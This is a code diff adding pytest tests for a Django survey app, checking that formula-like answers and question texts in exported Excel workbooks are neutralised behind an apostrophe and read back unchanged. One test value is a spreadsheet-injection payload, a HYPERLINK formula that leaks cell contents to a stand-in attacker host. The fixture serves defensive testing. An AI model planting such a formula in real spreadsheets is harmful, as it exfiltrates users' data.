@@ -9,7 +9,8 @@ from openpyxl import load_workbook
 
 from consult.models import AuditEvent, Position
 from consult.services.answering import position_section_save
-from consult.services.imports.offline import OfflineFileError, offline_apply, offline_plan
+from consult.services.imports.offline import OfflineFileError, offline_apply, offline_file_read, offline_plan
+from consult.services.imports.values import quoted_cell
 from consult.services.positions import position_for
 from surveys.models import Section
 from surveys.selectors import response_values
@@ -126,3 +127,51 @@ def test_a_submitted_position_cannot_take_an_upload(client, focal_point_france, 
 def test_only_the_states_focal_points_upload(client, officer, draft):
     client.force_login(officer)
     assert client.get(reverse("consult:position-offline-upload", kwargs={"position_id": draft.pk})).status_code == 403
+
+
+
+# What a spreadsheet would run, and text that already starts with apostrophes.
+FORMULA_ANSWERS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "-5 people", "'=already quoted", "''-1"]
+
+
+def practices_entry(content: bytes):
+    [entry] = [entry for entry in offline_file_read(content, "questionnaire.xlsx").entries if entry.code == "1.1-practices"]
+    return entry
+
+
+@pytest.mark.parametrize("text", FORMULA_ANSWERS)
+def test_a_formula_like_answer_is_written_behind_an_apostrophe_and_read_back_exactly(
+    client, focal_point_france, draft, text
+):
+    section = Section.objects.get(survey=draft.response.survey, code="1")
+    position_section_save(position=draft, section=section, expected_version=1, actor=focal_point_france,
+                          cleaned_data={"1-overall": "support", "1.1-practices": text})
+    content = downloaded(client, focal_point_france, draft)
+
+    sheet = load_workbook(io.BytesIO(content))["Questionnaire"]
+    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "1.1-practices"]
+    assert [(cell.value, cell.data_type) for cell in row[4:6]] == [("'" + text, "s")] * 2
+    question = draft.response.survey.questions.get(code="1.1-practices", is_current=True)
+    assert practices_entry(content).read(question) == (text, text)
+    assert offline_plan(position=draft, content=content).changes == []
+
+
+@pytest.mark.parametrize("text", FORMULA_ANSWERS)
+def test_a_formula_like_answer_typed_into_the_workbook_reaches_the_draft_exactly(
+    client, focal_point_france, draft, text
+):
+    content = downloaded(client, focal_point_france, draft)
+    assert practices_entry(content).place  # "A plan" is there, as downloaded.
+
+    offline_apply(position=draft, content=filled(content, {"1.1-practices": quoted_cell(text)}), actor=focal_point_france)
+
+    assert saved(draft, "1.1-practices") == text
+
+
+def test_a_question_text_that_looks_like_a_formula_is_neutralised(client, focal_point_france, draft):
+    draft.response.survey.questions.filter(code="1.1-practices").update(text="-1 for none; =SUM(A1:A9) otherwise")
+    sheet = load_workbook(io.BytesIO(downloaded(client, focal_point_france, draft)))["Questionnaire"]
+
+    [row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == "1.1-practices"]
+    assert row[2].value == "'-1 for none; =SUM(A1:A9) otherwise"
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
